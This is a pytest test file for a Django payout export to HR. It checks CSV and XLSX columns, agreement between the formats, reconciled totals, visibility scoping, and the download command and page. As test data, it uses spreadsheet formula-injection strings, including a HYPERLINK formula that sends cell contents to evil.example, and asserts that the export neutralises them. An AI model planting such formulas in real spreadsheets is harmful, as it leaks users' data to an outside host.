"""The HR export: exact columns, CSV and XLSX agree and reconcile to the run, injection-safe,
scoped by visibility; the command and the page download."""

import csv
import io
from decimal import Decimal as D

import pytest
from django.core.management import CommandError, call_command
from django.test import Client
from openpyxl import load_workbook

from incentives.payouts.export import LINE_COLUMNS, SUMMARY_COLUMNS, export_payouts, safe_text
from incentives.payouts.services import add_adjustment, close_period
from org.visibility import all_salesmen_for_system, salesmen_visible_to
from tests.factories import SalesmanFactory, UserFactory
from tests.incentives.payout_factories import JUNE, andi_june

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def run(world):
    andi_june(world)
    # A GT salesman whose name and adjustment reason are formulas; his adjustment is negative.
    SalesmanFactory(code="A3", name=EVIL, team=world.team_a, user=UserFactory(username="evil"))
    run = close_period(month=JUNE)
    evil = run.statements.get(salesman__code="A3").salesman
    add_adjustment(run=run, salesman=evil, amount=-125_000, reason="@SUM(1+1)", by=world.hr)
    add_adjustment(
        run=run, salesman=world.dewi, amount=300_000, reason="+Promo\tbonus", by=world.hr
    )
    return run


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM for spreadsheet programs
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def read_xlsx(data: bytes) -> dict[str, list[tuple]]:
    book = load_workbook(io.BytesIO(data))
    return {sheet.title: list(sheet.iter_rows(values_only=True)) for sheet in book.worksheets}


def test_summary_csv(run):
    rows = read_csv(export_payouts(run=run, fmt="csv", people=all_salesmen_for_system()))
    assert rows[0] == SUMMARY_COLUMNS
    assert rows[0] == [
        "period",
        "salesman",
        "name",
        "team",
        "channel",
        "total_score",
        "amount",
        "rewards",
        "employee_id",
    ]
    assert rows[1:] == [
        ["2026-06", "A1", "Andi", "Team A", "GT", "112.22", "3400000", "", ""],
        ["2026-06", "A2", "Budi", "Team A", "GT", "0.00", "0", "", ""],
        ["2026-06", "A3", "'" + EVIL, "Team A", "GT", "0.00", "-125000", "", ""],
        ["2026-06", "B1", "Dewi", "Team B", "MT", "", "300000", "", ""],
    ]


def test_lines_csv(run):
    rows = read_csv(
        export_payouts(run=run, fmt="csv", lines=True, people=all_salesmen_for_system())
    )
    assert rows[0] == LINE_COLUMNS
    assert rows[0] == [
        "period",
        "salesman",
        "rule",
        "label",
        "type",
        "value",
        "reached",
        "amount",
        "reward",
    ]
    andi = [row for row in rows[1:] if row[1] == "A1"]
    assert andi == [
        ["2026-06", "A1", "rev-full", "Revenue 100%", "tiers", "110", "from 100", "2000000", ""],
        [
            "2026-06",
            "A1",
            "rev-step",
            "Each further 10% of revenue",
            "step",
            "110",
            "1 step",
            "500000",
            "",
        ],
        ["2026-06", "A1", "new-outlets", "New outlets", "tiers", "35", "from 30", "400000", ""],
        ["2026-06", "A1", "visits", "Visits per day", "tiers", "20", "from 18", "500000", ""],
    ]
    adjustments = [row for row in rows[1:] if row[2] == "adjustment"]
    assert adjustments == [
        ["2026-06", "A3", "adjustment", "'@SUM(1+1)", "adjustment", "", "", "-125000", ""],
        ["2026-06", "B1", "adjustment", "'+Promo\tbonus", "adjustment", "", "", "300000", ""],
    ]


def test_xlsx_has_both_sheets_and_agrees_with_the_csv(run):
    sheets = read_xlsx(export_payouts(run=run, fmt="xlsx", people=all_salesmen_for_system()))
    assert list(sheets) == ["summary", "lines"]
    assert list(sheets["summary"][0]) == SUMMARY_COLUMNS
    assert list(sheets["lines"][0]) == LINE_COLUMNS

    def text(cell):
        if cell is None:
            return ""
        if isinstance(cell, float):  # openpyxl reads decimals back as float
            return format(D(str(cell)), "f")
        return str(cell)

    for sheet, lines in (("summary", False), ("lines", True)):
        csv_rows = read_csv(
            export_payouts(run=run, fmt="csv", lines=lines, people=all_salesmen_for_system())
        )[1:]
        xlsx_rows = [[text(cell) for cell in row] for row in sheets[sheet][1:]]
        if sheet == "summary":  # total_score: "112.22" and 112.22; "0.00" and 0
            for row in csv_rows:
                row[5] = format(D(row[5]).normalize(), "f") if row[5] else ""
            for row in xlsx_rows:
                row[5] = format(D(row[5]).normalize(), "f") if row[5] else ""
        assert xlsx_rows == csv_rows
    # Amounts are numbers (a negative one too), text cells are neutralised.
    evil = next(row for row in sheets["summary"] if row[1] == "A3")
    assert evil[2] == "'" + EVIL
    assert evil[6] == -125000 and isinstance(evil[6], int)
    assert all(isinstance(row[7], int) for row in sheets["lines"][1:])


def test_totals_reconcile_to_the_run(run):
    run_total = sum(line.amount for line in run.lines.all())
    assert run_total == 3_400_000 - 125_000 + 300_000
    summary = read_csv(export_payouts(run=run, fmt="csv", people=all_salesmen_for_system()))[1:]
    lines = read_csv(
        export_payouts(run=run, fmt="csv", lines=True, people=all_salesmen_for_system())
    )[1:]
    assert sum(int(row[6]) for row in summary) == run_total
    assert sum(int(row[7]) for row in lines) == run_total
    assert len(lines) == run.lines.count() == 12 + 2
    sheets = read_xlsx(export_payouts(run=run, fmt="xlsx", people=all_salesmen_for_system()))
    assert sum(row[6] for row in sheets["summary"][1:]) == run_total
    assert sum(row[7] for row in sheets["lines"][1:]) == run_total


def test_rewards_column_joins_the_reward_labels(run, world):
    run.lines.filter(salesman=world.andi, rule_code="visits").update(reward="Trip ke Bali")
    run.lines.filter(salesman=world.andi, rule_code="rev-full").update(reward="Gadget")
    summary = read_csv(export_payouts(run=run, fmt="csv", people=all_salesmen_for_system()))
    assert summary[1][7] == "Gadget; Trip ke Bali"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+62 812", "'+62 812"),
        ("-5", "'-5"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Andi", "Andi"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_safe_text(value, expected):
    assert safe_text(value) == expected


def test_export_is_scoped(run, world):
    summary = read_csv(
        export_payouts(run=run, fmt="csv", people=salesmen_visible_to(world.manager_b))
    )
    assert [row[1] for row in summary[1:]] == ["B1"]
    lines = read_csv(
        export_payouts(run=run, fmt="csv", lines=True, people=salesmen_visible_to(world.manager_a))
    )
    assert {row[1] for row in lines[1:]} == {"A1", "A2", "A3"}


def test_command_writes_the_files(run, tmp_path):
    target = tmp_path / "june.csv"
    call_command(
        "export_payouts", "2026-06", "--format", "csv", "-o", str(target), stdout=io.StringIO()
    )
    assert target.read_bytes() == export_payouts(
        run=run, fmt="csv", people=all_salesmen_for_system()
    )
    target = tmp_path / "june-lines.csv"
    call_command(
        "export_payouts",
        "2026-06",
        "--format",
        "csv",
        "--lines",
        "-o",
        str(target),
        stdout=io.StringIO(),
    )
    assert read_csv(target.read_bytes())[0] == LINE_COLUMNS
    target = tmp_path / "june.xlsx"
    call_command(
        "export_payouts", "2026-06", "--format", "xlsx", "-o", str(target), stdout=io.StringIO()
    )
    assert list(read_xlsx(target.read_bytes())) == ["summary", "lines"]
    with pytest.raises(CommandError, match="no payout run for 2026-07"):
        call_command("export_payouts", "2026-07", "-o", str(target))
    with pytest.raises(CommandError):
        call_command("export_payouts", "2026-06", "--format", "pdf", "-o", str(target))


def test_page_download(run, world):
    client = Client()
    client.force_login(world.hr)
    response = client.get("/incentives/runs/2026-06/export.csv")
    assert response.status_code == 200
    assert response.streaming  # tests/incentives/test_export_streaming.py
    assert response["Content-Disposition"] == 'attachment; filename="payouts-2026-06.csv"'
    assert response.getvalue() == export_payouts(
        run=run, fmt="csv", people=all_salesmen_for_system()
    )
    response = client.get("/incentives/runs/2026-06/export.csv?lines=1")
    assert response["Content-Disposition"] == 'attachment; filename="payouts-2026-06-lines.csv"'
    response = client.get("/incentives/runs/2026-06/export.xlsx")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert list(read_xlsx(response.getvalue())) == ["summary", "lines"]
    assert client.get("/incentives/runs/2026-06/export.pdf").status_code == 404
